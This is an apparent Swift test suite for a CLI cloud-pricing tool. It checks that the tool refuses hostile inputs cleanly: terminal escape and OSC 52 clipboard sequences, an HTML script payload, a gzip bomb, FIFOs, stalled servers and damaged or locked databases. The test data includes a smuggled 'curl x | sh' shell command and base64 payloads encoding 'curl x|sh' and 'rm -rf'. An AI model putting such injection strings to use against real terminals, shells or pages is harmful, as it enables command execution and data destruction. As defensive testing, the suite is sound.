import Foundation
import TestSupport
import Testing

/// Issue 20's hostile inputs, each crafted here by the test: the built binary must refuse them with a clear message
/// and the documented exit code, print no control byte it read, and leave the database as it was (the sqlite3
/// shell's `.dump` compared before and after). Hangs are run with a deadline: a FIFO, `/dev/zero`, a gzip bomb and a
/// stalled loopback server must each end well inside it.
@Suite(.serialized) struct HostileInputTests {
    typealias M = PriceListMirror

    /// The whole database as SQL text (`sqlite3 .dump`): equal before and after means nothing changed.
    static func dump(_ cli: CLI) throws -> String {
        try cli.program("/usr/bin/sqlite3", [cli.db, ".dump"]).stdout
    }

    /// A fresh scratch database with the bundled price book loaded, and its dump.
    static func initialised() throws -> (CLI, String) {
        let cli = try CLI()
        let list = try cli.run(["pricing", "list"])
        #expect(list.status == 0, "\(list.stderr)")
        return (cli, try dump(cli))
    }

    /// Runs the binary with a deadline; a run still going after `seconds` is killed and reported as a hang.
    static func bounded(
        _ cli: CLI, _ args: [String], seconds: Double, stdout: FileHandle? = nil, environment: [String: String] = [:]
    ) throws -> (result: CLIResult, elapsed: Double) {
        let process = Process()
        process.executableURL = CLI.binary
        process.arguments = args + ["--db", cli.db]
        process.currentDirectoryURL = cli.scratch
        var env = ProcessInfo.processInfo.environment
        env.removeValue(forKey: "TACOPLAN_DB")
        env["HOME"] = cli.scratch.path
        env["XDG_DATA_HOME"] = cli.scratch.path
        env["NO_COLOR"] = "1"
        env.merge(environment) { _, new in new }
        process.environment = env
        let id = UUID().uuidString
        let outURL = cli.scratch.appendingPathComponent("out-\(id)")
        let errURL = cli.scratch.appendingPathComponent("err-\(id)")
        _ = FileManager.default.createFile(atPath: outURL.path, contents: nil)
        _ = FileManager.default.createFile(atPath: errURL.path, contents: nil)
        let out = try FileHandle(forWritingTo: outURL)
        let err = try FileHandle(forWritingTo: errURL)
        process.standardOutput = stdout ?? out
        process.standardError = err
        process.standardInput = FileHandle.nullDevice
        let done = DispatchSemaphore(value: 0)
        process.terminationHandler = { _ in done.signal() }
        let start = Date()
        try process.run()
        if done.wait(timeout: .now() + seconds) == .timedOut {
            kill(process.processIdentifier, SIGKILL)
            process.waitUntilExit()
            Issue.record("tacoplan \(args.joined(separator: " ")) was still running after \(seconds) s: a hang")
        }
        let elapsed = Date().timeIntervalSince(start)
        try out.close()
        try err.close()
        return (
            CLIResult(
                status: process.terminationStatus,
                stdout: String(decoding: try Data(contentsOf: outURL), as: UTF8.self),
                stderr: String(decoding: try Data(contentsOf: errURL), as: UTF8.self)),
            elapsed
        )
    }

    @Test func aStoredUnknownRegionIsNeverPastedIntoASuggestedCommand() throws {
        let (cli, _) = try Self.initialised()
        // A row an older tacoplan stored before region codes were checked: a shell command and a BEL/ESC in the code.
        let hostile = "us-east-1; curl x | sh #\u{1B}[2J"
        _ = try cli.program(
            "/usr/bin/sqlite3",
            [
                cli.db,
                "INSERT INTO price (service, region, product, engine_os, purchase_option, unit, usd, effective_from, "
                    + "source, confidence) VALUES ('ec2', '\(hostile)', 'c7g.large', 'linux', 'on-demand', 'hour', "
                    + "'0.07', '2020-01-01', 'old import', 'aws-price-list')",
            ])
        let before = try Self.dump(cli)
        let list = try cli.run(["pricing", "list", "--as-of", "2026-12-01"])
        #expect(list.status == 0, "\(list.stderr)")
        #expect(PriceListFixture.noControlBytes(list.stdout + list.stderr))
        #expect(!list.stderr.contains("--region us-east-1; curl"))
        #expect(list.stderr.contains("pricing fetch --region REGION"))
        #expect(try Self.dump(cli) == before)
    }

    // MARK: - Terminal and HTML injection

    @Test func aPlanNameWithTerminalEscapesIsRefusedWithoutEchoingThem() throws {
        let (cli, before) = try Self.initialised()
        // OSC 52 (clipboard write), a window title and a screen clear in the plan name.
        // Written as YAML escapes (\e, \a) in a double-quoted scalar: YAML refuses raw control bytes, not these.
        let name = "Sale\\e]52;c;Y3VybCB4fHNo\\a\\e]0;owned\\a\\e[2J"
        let plan = try cli.write("plan.yaml", try PlanFixture.variant("name: Minimal", "name: \"\(name)\""))
        for command in ["estimate", "explain", "compare"] {
            let result = try cli.run([command, plan, "--as-of", "2025-10-01"])
            #expect(result.status == 2, "\(command): \(result.stderr)")
            #expect(result.stderr.contains("plan text must be printable"), "\(command): \(result.stderr)")
            #expect(result.stderr.contains("\\u{1B}"))
            #expect(PriceListFixture.noControlBytes(result.stdout + result.stderr), "\(command)")
        }
        #expect(try Self.dump(cli) == before)
    }

    @Test func aPlanNameCannotForgeOutputLines() throws {
        let (cli, before) = try Self.initialised()
        let plan = try cli.write(
            "plan.yaml", try PlanFixture.variant("name: Minimal", "name: \"Sale\\nverdict: FEASIBLE\""))
        let result = try cli.run(["estimate", plan, "--as-of", "2025-10-01"])
        #expect(result.status == 2, "\(result.stdout)\(result.stderr)")
        #expect(
            result.stderr.contains("plan.yaml:1:7: error: name: holds \\n: a plan name is one line of printable text"))
        #expect(result.stdout.isEmpty)
        #expect(try Self.dump(cli) == before)
    }

    @Test func aVariantNameFromTheCommandLineIsEscapedInTheError() throws {
        let (cli, _) = try Self.initialised()
        let plan = try cli.write(
            "plan.yaml", PlanFixture.minimal + "variants:\n  spot-off: { gateway.spot_share: 0% }\n")
        let result = try cli.run([
            "estimate", plan, "--variant", "x\u{1B}]52;c;cm0gLXJm\u{07}", "--as-of", "2025-10-01",
        ])
        #expect(result.status == 2)
        #expect(result.stderr.contains("is not a variant of"))
        #expect(result.stderr.contains("x\\u001B]52;c;cm0gLXJm\\u0007"))
        #expect(PriceListFixture.noControlBytes(result.stderr))
    }

    @Test func aVariantNameWithAControlCharacterIsRefused() throws {
        let (cli, _) = try Self.initialised()
        let plan = try cli.write(
            "plan.yaml", PlanFixture.minimal + "variants:\n  \"off\\e[2J\": { gateway.spot_share: 0% }\n")
        let result = try cli.run(["compare", plan, "--as-of", "2025-10-01"])
        #expect(result.status == 2, "\(result.stdout)\(result.stderr)")
        #expect(result.stderr.contains("a variant name must be a plain name of printable characters"))
        #expect(PriceListFixture.noControlBytes(result.stdout + result.stderr))
    }

    @Test func theDeckTitleIsHTMLEscaped() throws {
        let (cli, _) = try Self.initialised()
        let plan = try cli.write(
            "plan.yaml",
            try PlanFixture.variant("name: Minimal", "name: \"<img src=x onerror=alert(1)><script>x</script>\""))
        let out = cli.scratch.appendingPathComponent("deck").path
        let result = try cli.run(["report", plan, "--slides", "-o", out, "--as-of", "2025-10-01"])
        #expect([0, 5].contains(result.status), "\(result.stderr)")
        let files = try FileManager.default.contentsOfDirectory(atPath: out).filter { $0.hasSuffix(".md") }
        let deck = try String(contentsOfFile: out + "/" + (try #require(files.first)), encoding: .utf8)
        let title = try #require(deck.split(separator: "\n").first { $0.hasPrefix("title:") })
        #expect(title == "title: \"&lt;img src=x onerror=alert(1)&gt;&lt;script&gt;x&lt;/script&gt;\"")
        #expect(!deck.contains("<script>"))
    }

    // MARK: - extends and variants

    // MARK: - Hangs and unbounded reads

    @Test func aFIFOAndADeviceAreRefusedAtOnce() throws {
        let (cli, before) = try Self.initialised()
        let fifo = cli.scratch.appendingPathComponent("prices.fifo").path
        #expect(mkfifo(fifo, 0o600) == 0)
        for path in [fifo, "/dev/zero"] {
            let (result, elapsed) = try Self.bounded(cli, ["pricing", "import", path], seconds: 20)
            #expect(result.status == 2, "\(path): \(result.stderr)")
            #expect(result.stderr.contains("is not a regular file (a device, FIFO or socket)"))
            #expect(elapsed < 10)
        }
        #expect(try Self.dump(cli) == before)
    }

    /// `body` gzipped by the system's gzip (best compression), written to `name` in the scratch directory.
    static func gzip(_ cli: CLI, _ name: String, shell body: String) throws -> String {
        let path = cli.scratch.appendingPathComponent(name).path
        let made = try cli.program("/bin/sh", ["-c", "{ \(body); } | gzip -9 > '\(path)'"])
        #expect(made.status == 0, "\(made.stderr)")
        return path
    }

    @Test func aGzipPriceListIsReadAndAGzipBombIsStoppedInBoundedTime() throws {
        let (cli, before) = try Self.initialised()
        // A real price list gzipped imports like the plain file.
        let plain = try cli.write("plain.csv", PriceListFixture.csv([PriceListFixture.row()]))
        let gz = try Self.gzip(cli, "index.csv.gz", shell: "cat '\(plain)'")
        let good = try cli.run(["pricing", "import", gz])
        #expect(good.status == 0, "\(good.stderr)")
        #expect(good.stdout.contains("1 rows read, 1 kept"))
        let afterGood = try Self.dump(cli)
        #expect(afterGood != before)

        // The price-list preamble, then 1 GiB of line feeds: the preamble's gzip member followed by 1,024 copies of
        // one member holding 1 MiB of line feeds (zlib reads concatenated members as one stream, as `gzip -d`
        // does). About 1 MB compressed (each copy ≈ 1 KB), so it is stopped at 100 × that ≈ 100 MiB decompressed
        // instead of reading the whole GiB; building it gzips 1 MiB once instead of the whole GiB.
        let bomb = try Self.gzip(cli, "bomb.csv.gz", shell: "head -n 6 '\(plain)'")
        let mebibyte = try Self.gzip(cli, "lf.gz", shell: "head -c 1048576 /dev/zero | tr '\\000' '\\n'")
        let appended = try cli.program(
            "/bin/sh", ["-c", "for i in $(seq 1024); do cat '\(mebibyte)'; done >> '\(bomb)'"])
        #expect(appended.status == 0, "\(appended.stderr)")
        let compressed = try #require(try FileManager.default.attributesOfItem(atPath: bomb)[.size] as? Int)
        #expect(compressed < 4 << 20, "\(compressed) bytes: the bomb must be far smaller than what it expands to")
        let (result, elapsed) = try Self.bounded(cli, ["pricing", "import", bomb], seconds: 60)
        #expect(result.status == 2, "\(result.stdout)\(result.stderr)")
        #expect(result.stderr.contains("the gzip file expands past"), "\(result.stderr)")
        #expect(result.stderr.contains("(more than 100× its compressed size): a gzip bomb or not a price list"))
        #expect(elapsed < 30)
        #expect(try Self.dump(cli) == afterGood)
    }

    @Test func aDamagedGzipAndANulByteAreNamed() throws {
        let (cli, before) = try Self.initialised()
        let plain = try cli.write("plain.csv", PriceListFixture.csv((0..<2000).map { _ in PriceListFixture.row() }))
        let gz = try Self.gzip(cli, "whole.csv.gz", shell: "cat '\(plain)'")
        let bytes = try Data(contentsOf: URL(fileURLWithPath: gz))
        let cut = try cli.write("cut.csv.gz", bytes.prefix(bytes.count / 2))
        let damaged = try cli.run(["pricing", "import", cut])
        #expect(damaged.status == 2)
        #expect(damaged.stderr.contains("the gzip stream is truncated or damaged"), "\(damaged.stderr)")

        let nul = try cli.write("nul.csv", Data("\"FormatVersion\",\"v1.0\"\n\"Disclaimer\",\"x\"\nab\0cd\n".utf8))
        let binary = try cli.run(["pricing", "import", nul])
        #expect(binary.status == 2)
        #expect(binary.stderr.contains("a NUL byte on line 3"), "\(binary.stderr)")
        #expect(try Self.dump(cli) == before)
    }

    @Test func aNulByteInATextInputIsNamedWithItsLine() throws {
        let (cli, before) = try Self.initialised()
        // Without the check, the step CSV's "1\0" was read as 1 req/s and stored.
        let steps = try cli.write("steps.csv", Data("name,rps\nwarm,1\0\npeak,2\n".utf8))
        let ingest = try cli.run(["ingest", steps])
        #expect(ingest.status == 2, "\(ingest.stdout)\(ingest.stderr)")
        #expect(ingest.stderr.contains("steps.csv: error: a NUL byte on line 2: this is a binary file, not text"))
        let plan = try cli.write("plan.yaml", Data((PlanFixture.minimal + "\0\n").utf8))
        let estimate = try cli.run(["estimate", plan, "--as-of", "2025-10-01"])
        #expect(estimate.status == 2)
        // PlanFixture.minimal is 22 lines, each ending in a line feed: the NUL opens line 23.
        #expect(estimate.stderr.contains("plan.yaml: error: a NUL byte on line 23"), "\(estimate.stderr)")
        #expect(try Self.dump(cli) == before)
    }

    // MARK: - Fetch

    /// Loopback only, whatever proxy the environment sets.
    static let direct = ["NO_PROXY": "127.0.0.1,localhost", "no_proxy": "127.0.0.1,localhost"]

    @Test func anHTMLPageAnswered200IsNotAFetchedFile() throws {
        let (cli, _) = try Self.initialised()
        try M.write(to: cli.scratch)
        // A proxy's "Access Denied" page where the Spot Advisor JSON should be.
        let page = cli.scratch.appendingPathComponent("mirror/denied.json")
        try Data("<html><body><h1>Access Denied</h1></body></html>\n".utf8).write(to: page)
        let server = try PriceListServer(root: cli.scratch)
        let before = try Self.dump(cli)
        let result = try cli.run(
            [
                "pricing", "fetch", "--endpoint", server.endpoint, "--spot-advisor", "--spot-advisor-url",
                server.endpoint + "/denied.json", "--attempts", "1",
            ], environment: Self.direct)
        #expect(result.status == 2, "\(result.stdout)\(result.stderr)")
        #expect((result.stdout + result.stderr).contains("an HTML or XML page, not the price list; nothing was stored"))
        #expect(result.stderr.contains("1 of 1 files not fetched"))
        #expect(try Self.dump(cli) == before)
    }

    @Test func aNetworkFailureIsAFetchErrorNamingTheURL() throws {
        let (cli, before) = try Self.initialised()
        let port = try freePort()
        let result = try cli.run(
            [
                "pricing", "fetch", "--endpoint", "http://127.0.0.1:\(port)", "--region", "us-west-2", "--attempts",
                "1", "--backoff", "0",
            ], environment: Self.direct)
        #expect(result.status == 2, "\(result.stderr)")
        #expect(result.stderr.contains("http://127.0.0.1:\(port)/offers/v1.0/aws/index.json"))
        #expect(result.stderr.contains("fix: check --endpoint, the network and the proxy variables"))
        #expect(!result.stderr.contains("database"))
        #expect(try Self.dump(cli) == before)
    }

    @Test func twoFetchesIntoOneDatabaseDoNotShareAPartialFile() throws {
        let (cli, _) = try Self.initialised()
        try M.write(to: cli.scratch)
        let server = try PriceListServer(root: cli.scratch)
        // Both runs ask for the EC2 file within the server's 2 s delay, so their downloads overlap.
        try server.faults(slow: [M.ec2West: 2])
        let args = [
            "pricing", "fetch", "--endpoint", server.endpoint, "--region", "us-west-2", "--service", "ec2",
            "--backoff", "0", "--db", cli.db,
        ]
        var env = ProcessInfo.processInfo.environment.merging(Self.direct) { _, new in new }
        env.removeValue(forKey: "TACOPLAN_DB")
        env["NO_COLOR"] = "1"
        var runs: [(Process, Pipe, Pipe)] = []
        for _ in 0..<2 {
            let process = Process()
            process.executableURL = CLI.binary
            process.arguments = args
            process.environment = env
            let out = Pipe()
            let err = Pipe()
            process.standardOutput = out
            process.standardError = err
            try process.run()
            runs.append((process, out, err))
        }
        for (process, out, err) in runs {
            let stdout = String(decoding: out.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
            let stderr = String(decoding: err.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
            process.waitUntilExit()
            #expect(process.terminationStatus == 0, "\(stdout)\(stderr)")
            #expect(!stderr.contains("truncated"))
        }
        // us-west-2 EC2: 3 Linux prices kept (PriceListMirror.ec2CSV), stored once whichever run imported them (the
        // bundled book's us-west-2 inter-region transfer row is not an instance price and is left out of the count).
        let count = try cli.program(
            "/usr/bin/sqlite3",
            [
                cli.db,
                "SELECT COUNT(*) FROM price WHERE region = 'us-west-2' AND service = 'ec2'"
                    + " AND product != 'inter-region-transfer'",
            ])
        #expect(count.stdout.trimmingCharacters(in: .whitespacesAndNewlines) == "3")
    }

    /// A loopback server that accepts connections and never answers.
    final class StalledServer {
        let process = Process()
        let port: Int

        init(scratch: URL) throws {
            let script = scratch.appendingPathComponent("stall.py")
            try Data(
                """
                import socket, sys
                s = socket.socket()
                s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                s.bind(("127.0.0.1", 0))
                s.listen(16)
                print("PORT", s.getsockname()[1], flush=True)
                held = []
                while True:
                    c, _ = s.accept()
                    held.append(c)

                """.utf8
            ).write(to: script)
            process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
            process.arguments = ["python3", script.path]
            let out = Pipe()
            process.standardOutput = out
            process.standardError = FileHandle.nullDevice
            try process.run()
            var line = Data()
            while !line.contains(10) {
                let byte = out.fileHandleForReading.readData(ofLength: 1)
                if byte.isEmpty { break }
                line.append(byte)
            }
            let text = String(decoding: line, as: UTF8.self).trimmingCharacters(in: .whitespacesAndNewlines)
            port = try #require(text.hasPrefix("PORT ") ? Int(text.dropFirst(5)) : nil, "stall server: '\(text)'")
        }

        deinit {
            kill(process.processIdentifier, SIGKILL)
            process.waitUntilExit()
        }
    }

    @Test func aStalledServerEndsInBoundedTimeWithAFetchError() throws {
        let (cli, before) = try Self.initialised()
        let server = try StalledServer(scratch: cli.scratch)
        let endpoint = "http://127.0.0.1:\(server.port)"
        let (result, elapsed) = try Self.bounded(
            cli,
            ["pricing", "fetch", "--endpoint", endpoint, "--region", "us-west-2", "--timeout", "1", "--attempts", "1"],
            seconds: 30, environment: Self.direct)
        #expect(result.status == 2, "\(result.stderr)")
        #expect(result.stderr.contains("\(endpoint)/offers/v1.0/aws/index.json"))
        #expect(result.stderr.contains("stalled"))
        #expect(elapsed < 15)
        #expect(try Self.dump(cli) == before)
    }

    // MARK: - Database errors

    @Test func aFileThatIsNotADatabaseSaysSoWithExit4InEveryCommand() throws {
        let cli = try CLI()
        let db = try cli.write("not.sqlite", String(repeating: "this is a text file, not SQLite\n", count: 200))
        let before = try Data(contentsOf: URL(fileURLWithPath: db))
        let plan = try cli.write("plan.yaml", PlanFixture.minimal)
        let prices = try cli.write("index.csv", PriceListFixture.csv([PriceListFixture.row()]))
        for args in [["pricing", "list"], ["pricing", "import", prices], ["estimate", plan]] {
            let result = try cli.run(args, db: db)
            #expect(result.status == 4, "\(args): \(result.stderr)")
            #expect(result.stderr.contains("\(db): error: this file is not a tacoplan database"), "\(args)")
            #expect(!result.stderr.contains("remove a damaged one"))
        }
        #expect(try Data(contentsOf: URL(fileURLWithPath: db)) == before)
    }

    @Test func aDamagedDatabaseQuotesIntegrityCheck() throws {
        let (cli, _) = try Self.initialised()
        // Overwrite page 3 onwards (table b-tree pages) with garbage, keeping the header page intact.
        let handle = try #require(FileHandle(forUpdatingAtPath: cli.db))
        try handle.seek(toOffset: 4096 * 2)
        try handle.write(contentsOf: Data(repeating: 0xA5, count: 4096 * 4))
        try handle.close()
        let before = try Data(contentsOf: URL(fileURLWithPath: cli.db))
        let prices = try cli.write("index.csv", PriceListFixture.csv([PriceListFixture.row()]))
        let result = try cli.run(["pricing", "import", prices])
        #expect(result.status == 4, "\(result.stderr)")
        #expect(
            result.stderr.contains("error: the database is damaged: integrity_check says:")
                || result.stderr.contains("error: this file is not a tacoplan database"), "\(result.stderr)")
        #expect(result.stderr.contains(cli.db))
        #expect(try Data(contentsOf: URL(fileURLWithPath: cli.db)) == before)
    }

    /// Waits out the busy timeout once: the only way to see a real lock error. `TACOPLAN_BUSY_TIMEOUT=1` makes it
    /// 1 s instead of the default 30 s (`DatabaseOpener`); the run must have waited that second before failing.
    @Test func aLockedDatabaseSaysLockedAndTryAgainNotRemoveIt() throws {
        let (cli, _) = try Self.initialised()
        let prices = try cli.write("index.csv", PriceListFixture.csv([PriceListFixture.row()]))
        // The sqlite3 shell holds the write lock until its stdin closes.
        let holder = Process()
        holder.executableURL = URL(fileURLWithPath: "/usr/bin/sqlite3")
        holder.arguments = [cli.db]
        let input = Pipe()
        let output = Pipe()
        holder.standardInput = input
        holder.standardOutput = output
        holder.standardError = FileHandle.nullDevice
        try holder.run()
        defer {
            try? input.fileHandleForWriting.close()
            holder.waitUntilExit()
        }
        input.fileHandleForWriting.write(Data("BEGIN EXCLUSIVE;\nSELECT 'held';\n".utf8))
        _ = output.fileHandleForReading.readData(ofLength: 5)
        let before = try Data(contentsOf: URL(fileURLWithPath: cli.db))
        let (result, elapsed) = try Self.bounded(
            cli, ["pricing", "import", prices], seconds: 60, environment: ["TACOPLAN_BUSY_TIMEOUT": "1"])
        #expect(result.status == 4, "\(result.stderr)")
        #expect(elapsed >= 1, "failed after \(elapsed) s: it did not wait the 1 s busy timeout")
        #expect(
            result.stderr.contains(
                "\(cli.db): error: the database is locked: process \(holder.processIdentifier) (sqlite3) is writing to it"
            ),
            "\(result.stderr)")
        #expect(result.stderr.contains("try again"))
        #expect(!result.stderr.contains("remove"))
        #expect(try Data(contentsOf: URL(fileURLWithPath: cli.db)) == before)
    }

    /// Run as the unprivileged user `nobody` (setpriv) on a database root created: root bypasses file permissions.
    @Test(.enabled(if: getuid() == 0 && FileManager.default.isExecutableFile(atPath: "/usr/bin/setpriv")))
    func aDatabaseThisUserMayNotWriteSaysPermissionDeniedAndWhichPath() throws {
        let (cli, before) = try Self.initialised()
        let prices = try cli.write("index.csv", PriceListFixture.csv([PriceListFixture.row()]))
        let result = try cli.program(
            "/usr/bin/setpriv",
            [
                "--reuid=65534", "--regid=65534", "--clear-groups", CLI.binary.path, "pricing", "import", prices,
                "--db", cli.db,
            ])
        #expect(result.status == 4, "\(result.stderr)")
        #expect(result.stderr.contains("\(cli.db): error: permission denied: \(cli.db).lock"), "\(result.stderr)")
        #expect(result.stderr.contains("fix: make \(cli.db).lock readable and writable by this user"))
        #expect(try Self.dump(cli) == before)
    }

    @Test func aFileURIInTACOPLAN_DBIsAPlainPath() throws {
        let cli = try CLI()
        let result = try cli.run(
            ["pricing", "list"], environment: ["TACOPLAN_DB": "file:tp.sqlite?mode=memory"], addDB: false,
            directory: cli.scratch)
        #expect(result.status == 0, "\(result.stderr)")
        // SQLite would have opened an in-memory database for the URI; the path is used literally instead.
        #expect(
            FileManager.default.fileExists(
                atPath: cli.scratch.appendingPathComponent("file:tp.sqlite?mode=memory").path))
    }

    // MARK: - Write errors

    @Test(arguments: [
        ["estimate", "PLAN", "--format", "json"], ["report", "PLAN", "--format", "csv"],
        ["sweep", "PLAN", "--format", "svg", "--users", "100k..300k"], ["compare", "PLAN"], ["pricing", "list"],
    ])
    func outputToAFullDeviceIsAnError(_ args: [String]) throws {
        let (cli, _) = try Self.initialised()
        let plan = try cli.write(
            "plan.yaml", PlanFixture.minimal + "variants:\n  spot-off: { gateway.spot_share: 0% }\n")
        let full = try #require(FileHandle(forWritingAtPath: "/dev/full"))
        let (result, _) = try Self.bounded(
            cli, args.map { $0 == "PLAN" ? plan : $0 } + ["--as-of", "2025-10-01"], seconds: 60, stdout: full)
        #expect(result.status == 2, "\(args): \(result.stderr)")
        #expect(result.stderr.contains("error: cannot write the output to standard output (/dev/full)"))
        #expect(result.stderr.contains("No space left on device"))
    }

    // MARK: - Load-test and demand files

    @Test func aStepCSVCutInsideItsLastFieldIsRefused() throws {
        let (cli, before) = try Self.initialised()
        let steps = try cli.write("steps.csv", "name,rps,gateway_cpu\nwarm,1000,40\npeak,5000,8")
        let result = try cli.run(["ingest", steps])
        #expect(result.status == 2, "\(result.stdout)\(result.stderr)")
        #expect(
            result.stderr.contains(
                "the file ends inside line 3 (no line break after its last record): it looks truncated"))
        #expect(try Self.dump(cli) == before)
    }

    @Test(arguments: ["-5", "0", "99999999999"])
    func aK6SampleOutsidePlausibleTimeIsRefused(_ timestamp: String) throws {
        let (cli, before) = try Self.initialised()
        let k6 = try cli.write(
            "k6.csv",
            "metric_name,timestamp,metric_value\nhttp_reqs,1700000000,1\nhttp_reqs,\(timestamp),1\n")
        let result = try cli.run(["ingest", k6])
        #expect(result.status == 2, "\(result.stdout)\(result.stderr)")
        #expect(result.stderr.contains("expected a Unix timestamp from 2017 to 2100"))
        #expect(try Self.dump(cli) == before)
    }

    @Test func aK6CSVOverItsDocumentedLimitIsRefusedFromItsSize() throws {
        let (cli, before) = try Self.initialised()
        // 64 MiB + 1 byte: the header, then padding rows that are never read.
        let path = cli.scratch.appendingPathComponent("big.csv").path
        let header = Data("metric_name,timestamp,metric_value\n".utf8)
        _ = FileManager.default.createFile(atPath: path, contents: header)
        let handle = try #require(FileHandle(forWritingAtPath: path))
        try handle.truncate(atOffset: UInt64(64 << 20) + 1)
        try handle.close()
        let result = try cli.run(["ingest", path])
        #expect(result.status == 2, "\(result.stderr)")
        #expect(result.stderr.contains("limited to 67,108,864 bytes (64 MiB)"), "\(result.stderr)")
        #expect(try Self.dump(cli) == before)
    }

    @Test func aDemandCSVWithADuplicateColumnIsRefused() throws {
        let (cli, before) = try Self.initialised()
        let plan = try cli.write("plan.yaml", PlanFixture.minimal)
        let demand = try cli.write("demand.csv", "duration,rps,rps\n30s,1000,9000\n")
        let result = try cli.run(["simulate", plan, "--demand", demand, "--as-of", "2025-10-01"])
        #expect(result.status == 2, "\(result.stdout)\(result.stderr)")
        #expect(result.stderr.contains("the column 'rps' appears twice (columns 2 and 3)"), "\(result.stderr)")
        #expect(try Self.dump(cli) == before)
    }
}
